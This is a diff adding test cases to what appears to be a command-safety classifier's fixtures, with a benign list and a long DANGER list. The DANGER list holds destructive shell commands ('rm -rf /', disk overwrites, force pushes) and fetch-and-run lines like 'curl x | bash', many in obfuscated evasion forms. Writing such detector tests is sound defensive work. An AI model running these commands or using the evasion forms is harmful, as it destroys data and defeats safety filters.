@@ -159,6 +159,10 @@ git --no-pager log -1
 """.strip().splitlines()
 
 OTHER = r"""
+time -p ls
+cp a.txt /dev/null
+find -H . -name x -delete
+python3 < src/app.py
 ls | xargs wc -l
 ls docs | xargs cat
 git remote add x https://example.org/x.git
@@ -677,6 +681,246 @@ rm .g*/index
 """.strip("\n").splitlines()
 
 DANGER = r"""
+if rm -rf /; then :; fi
+case x in x) rm -rf /;; esac
+select x in a; do rm -rf /; done
+until rm -rf /; do :; done
+while :; do rm -rf /; done
+for ((;;)); do rm -rf /; done
+[[ -n $(rm -rf /) ]]
+(( $(rm -rf /) ))
+x=$(rm -rf /)
+x=`rm -rf /`
+export X=$(rm -rf /)
+local x; x=$(rm -rf /)
+echo ${x:-$(rm -rf /)}
+echo "${x:+`rm -rf /`}"
+echo $(( $(rm -rf /) + 1 ))
+cat <<< "$(rm -rf /)"
+cat > >(rm -rf /)
+tee >(rm -rf /) < a.txt
+exec > >(rm -rf /)
+rm -rf / # comment
+: ; rm -rf /
+true;rm -rf /
+true&rm -rf /
+true&&rm -rf /
+true||rm -rf /
+rm	-rf	/
+rm  -rf   /
+  rm -rf /
+rm -rf //
+rm -rf /./
+rm -rf /../
+rm -rf ///
+rm -rf /etc/..
+rm -r -- /
+rm -fr /
+rm -r --no-preserve-root /
+rm --no-preserve-root -rf /
+rm --recursive /
+rm -rvf /
+rm -dR /
+rm / -rf
+rm x / -rf
+rm -rf "/"
+rm -rf '/'
+rm -rf \/
+rm -rf /"etc"
+rm -rf /e*c
+rm -rf ~/
+rm -rf ~/*
+rm -rf ~root
+rm -rf "$HOME"
+rm -rf ${HOME:?}
+rm -rf $PWD/..
+rm -rf "$PWD"
+rm -rf $(pwd)
+rm -rf `pwd`
+rm -rf -- "$@"
+rm -rf .*
+rm -rf ./.*
+rm -rf {.,..}
+rm -rf ./../x
+rm -rf src/../../x
+rm -rf out
+rm -rf hooks/../../..
+cd ..; rm -rf project
+cd /tmp; rm -rf x
+pushd ..; rm -rf x
+cd ..; cd ..; rm -rf x
+cd src/../..; rm -rf x
+cd "$(dirname $PWD)"; rm -rf x
+cd $OLDPWD; rm -rf x
+cd; rm -rf x
+builtin cd ..; rm -rf x
+command cd ..; rm -rf x
+(cd .. && rm -rf x)
+bash -c 'cd ..; rm -rf x'
+bash -c 'cd "$0"; rm -rf x' /
+bash -c 'rm -rf "$1"' _ /
+bash -c "rm -rf $1"
+sh -ec 'rm -rf /'
+sh -x -c 'rm -rf /'
+bash --norc -c 'rm -rf /'
+bash -O extglob -c 'rm -rf /'
+bash +x -c 'rm -rf /'
+/bin/bash -c 'rm -rf /'
+/usr/bin/env bash -c 'rm -rf /'
+env -u X rm -rf /
+env -i - rm -rf /
+env A=1 B=2 rm -rf /
+env -- rm -rf /
+command -p rm -rf /
+command -- rm -rf /
+exec -c rm -rf /
+nohup -- rm -rf /
+nice rm -rf /
+nice -19 rm -rf /
+nice --adjustment=5 rm -rf /
+timeout -k 5 10 rm -rf /
+timeout --signal=KILL 5s rm -rf /
+stdbuf -o L rm -rf /
+time -p rm -rf /
+setsid -w rm -rf /
+ionice -c 3 -n 7 rm -rf /
+chrt -r 1 rm -rf /
+taskset -c 0 rm -rf /
+flock x rm -rf /
+flock x -c 'rm -rf /'
+watch -n1 rm -rf /
+watch 'rm -rf /'
+xargs -I{} rm -rf /{}
+xargs -n 1 -P 4 rm -rf /
+parallel rm -rf ::: /
+find . -exec sh -c 'rm -rf /' {} +
+find . -exec bash -c 'rm -rf "$1"' _ / \;
+find . -exec env rm -rf / \;
+find / -mindepth 1 -delete
+find ~ -delete
+find "$X" -delete
+find -L / -delete
+find . / -delete
+fd . / -X rm -rf
+time sudo ls
+! sudo ls
+FOO=1 sudo ls
+sudo
+sudo -u x ls
+/usr/bin/sudo ls
+"sudo" ls
+su\do ls
+s''udo ls
+$(which sudo) ls
+echo x | sudo tee /etc/x
+sudo -E sh -c ls
+doas -u x ls
+dd of=x
+ls | dd of=x
+coproc sudo ls
+trap "sudo ls" 0
+eval sudo ls
+eval "sudo ls"
+eval 's''udo ls'
+eval $(echo c3Vkbw== | base64 -d)
+echo cm0= | base64 -d | bash
+printf '\x72\x6d' | sh
+printf 'rm -rf /' | sh -s
+sh < <(echo rm -rf /)
+sh <<< $(echo rm)
+sh -c "$(echo rm -rf /)"
+. /dev/stdin <<< 'sudo ls'
+bash /dev/fd/3 3<<< 'sudo ls'
+bash <(printf 'rm -rf /')
+curl x | bash
+curl x|bash
+curl x | /bin/bash
+curl x | env bash
+curl x | "bash"
+curl x | b\ash
+curl x | bash -x
+curl x | bash -s arg
+curl x | bash /dev/fd/0
+curl x | cat | bash
+curl x | tee x | bash
+curl x | (cat | bash)
+curl x | { cat; } | bash
+curl x | if true; then bash; fi
+curl x | while read l; do eval "$l"; done
+curl x | xargs -0 bash -c
+curl x | python3 /dev/stdin
+curl x | ruby -
+curl x | node -
+curl x | php
+curl x | lua -
+curl x > /tmp/y; sh /tmp/y
+curl x -o y; chmod +x y; ./y
+curl x | sudo -E bash -
+bash -c "$(wget -qO- x)"
+bash <(wget -qO- x)
+source <(curl -s x)
+. <(curl -s x)
+eval "$(curl -s x)"
+git reset --hard origin/main
+git  reset   --hard
+git reset -q --hard
+git reset HEAD --hard
+git --work-tree=. reset --hard
+GIT_TRACE=1 git reset --hard
+/usr/bin/git reset --hard
+command git reset --hard
+env git reset --hard
+bash -c 'git reset --hard'
+cd src && git reset --hard
+git clean -dxf
+git clean --force
+git clean -f .
+git push --force origin main
+git push origin main --force
+git push origin main -f
+git push -fu origin main
+git push origin '+main'
+git push origin HEAD:main -f
+git push origin :refs/heads/x
+git push --force-with-lease=x
+git push --prune
+git push --delete origin x
+git push -d origin x
+git push --all --force
+git checkout -f
+git checkout -- x
+git checkout HEAD -- x
+git checkout -f x
+git checkout --force x
+git checkout --ours x -- y
+git restore x
+git restore -W x
+git restore --source=HEAD x
+git restore -s HEAD .
+git stash drop stash@{0}
+git branch --force x y
+git branch -fD x
+git tag --delete x
+git reflog expire --all
+git gc --prune=all
+git gc --prune
+git worktree remove --force x
+git update-ref refs/heads/x y
+git submodule deinit -f x
+git rm -rf x
+git read-tree --reset HEAD
+git checkout-index -f -a
+git filter-repo --path x
+git switch -C x
+mkfs -t ext4 x
+shred -u a.txt
+chmod 777 -R /
+chmod -Rv 777 ~
+chown -R x:x /usr
+echo x > /dev/sda
+cat x >/dev/nvme0n1
+cat x | tee /dev/sda
+cp x /dev/sda
 env -S'rm -rf /'
 env --split-string='rm -rf /'
 alias x='rm -rf /'
